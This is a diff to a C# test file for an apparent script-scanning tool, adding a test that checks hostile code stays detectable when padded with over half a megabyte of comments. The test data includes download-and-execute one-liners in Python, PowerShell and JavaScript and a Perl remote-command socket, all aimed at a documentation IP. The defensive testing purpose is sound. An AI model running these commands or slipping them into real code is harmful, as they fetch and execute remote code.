@@ -28,6 +28,17 @@ public sealed class ScriptFileTests
     public void The_path_file_of_setuptools_does_nothing() =>
         Assert.All(Read(new PythonFile(), "usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"), code => Assert.Empty(code.Effects));
 
+    [Theory]
+    [InlineData("a.py", "import subprocess,requests\nsubprocess.Popen(['python3','-c',requests.get('http://192.0.2.1/a').text])\n", "#x aa\n")]
+    [InlineData("a.ps1", "iex (iwr http://192.0.2.1/a.ps1)\n", "#x aa\n")]
+    [InlineData("a.js", "fetch('http://192.0.2.1/a').then(r=>r.text()).then(t=>new Function(t)())\n", "//x a\n")]
+    [InlineData("a.pl", "use IO::Socket;my $s=IO::Socket::INET->new('192.0.2.1:4444');my $c=<$s>;system($c);\n", "#x aa\n")]
+    public void Comments_above_half_a_megabyte_hide_nothing(string path, string code, string comment)
+    {
+        CodeReader reader = path.EndsWith(".py", StringComparison.Ordinal) ? new PythonFile() : path.EndsWith(".js", StringComparison.Ordinal) ? new JavaScriptFile() : new InterpretedFile();
+        Assert.NotEmpty(Assert.Single(Read(reader, path, code + string.Concat(Enumerable.Repeat(comment, 200_000)))).Effects);
+    }
+
     [Fact]
     public void A_site_customisation_runs_at_every_start_of_Python() =>
         Assert.Equal(TriggerKind.InterpreterStart, Assert.Single(Read(new PythonFile(), "usr/lib/python3/sitecustomize.py", "import subprocess\nsubprocess.run('id', shell=True)\n")).Trigger);
